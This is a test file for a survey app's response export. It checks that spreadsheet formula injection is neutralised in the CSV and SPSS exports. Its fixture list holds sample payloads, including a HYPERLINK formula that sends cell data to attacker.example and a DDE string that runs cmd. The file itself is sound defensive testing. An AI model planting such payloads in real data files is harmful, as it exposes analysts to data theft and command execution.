// Finding 4 of the security review (OWASP "CSV Injection"): a respondent's text starting with =, +, -, @, tab or CR
// reached the CSV export and the SPSS zip's data.csv as typed, and ran as a formula when an analyst opened the file
// in a spreadsheet. Such text cells now start with an apostrophe; numbers, and text that is a plain number, do not.
import { parse } from 'csv-parse/sync';
import { useService } from '../helpers/service';
import { buildSurvey } from '../helpers/surveys';
import { unzip } from '../helpers/zip';

const file = useService();

const TYPED = [
  '=HYPERLINK("https://attacker.example/?d="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
  '\tTAB',
  '\rCR',
];
const SAFE = ['-5', '+44', 'Fine, thanks', "It's 'quoted'"];

it('neutralises formula-like text in the CSV export and in the SPSS data.csv, and leaves numbers as numbers', async () => {
  const s = await buildSurvey(file.api, [
    { key: 'text', type: 'short_text', title: '=Comment' },
    { key: 'n', type: 'number' },
  ]);
  const at = '2026-11-20T10:00:00.000Z';
  const imported = await file.api.post(`/api/v1/surveys/${s.id}/responses`, {
    responses: [...TYPED, ...SAFE].map((text, i) => ({
      status: 'completed',
      startedAt: at,
      completedAt: at,
      externalId: `r${i}`,
      answers: [
        { questionId: s.q.text, value: text },
        { questionId: s.q.n, value: -5 },
      ],
    })),
  });
  expect(imported.status).toBe(200);

  const csv = await file.api.get(`/api/v1/surveys/${s.id}/responses/export`, { query: { format: 'csv', status: 'all' } });
  expect(csv.status).toBe(200);
  const rows: Record<string, string>[] = parse(csv.text, { columns: true });
  const column = Object.keys(rows[0]).find((h) => h.includes('Comment')) as string;
  expect(column).toBe("'=Comment"); // a title is text a spreadsheet reads too
  const texts = rows.map((r) => r[column]);
  for (const typed of TYPED) expect(texts).toContain(`'${typed}`);
  for (const safe of SAFE) expect(texts).toContain(safe);
  expect(rows.every((r) => Object.values(r).includes('-5'))).toBe(true); // the number question's -5, as a number
  // No cell of the file starts a formula.
  for (const r of rows) for (const cell of Object.values(r)) if (!/^[+-]?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

  // A second export reads the lines kept by the first: they are neutralised too.
  const again = await file.api.get(`/api/v1/surveys/${s.id}/responses/export`, { query: { format: 'csv', status: 'all' } });
  expect(again.text).toBe(csv.text);

  const spss = await file.api.get(`/api/v1/surveys/${s.id}/responses/export`, { query: { format: 'spss', status: 'all' } });
  const data: string[][] = parse((await unzip(spss.bytes))['data.csv'].toString('utf8'));
  const cells = data.slice(1).flat();
  // (data.csv turns line breaks into spaces, so the CR case starts with a space there.)
  for (const typed of TYPED.filter((t) => !t.startsWith('\r'))) expect(cells).toContain(`'${typed}`);
  for (const cell of cells) if (!/^[+-]?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});
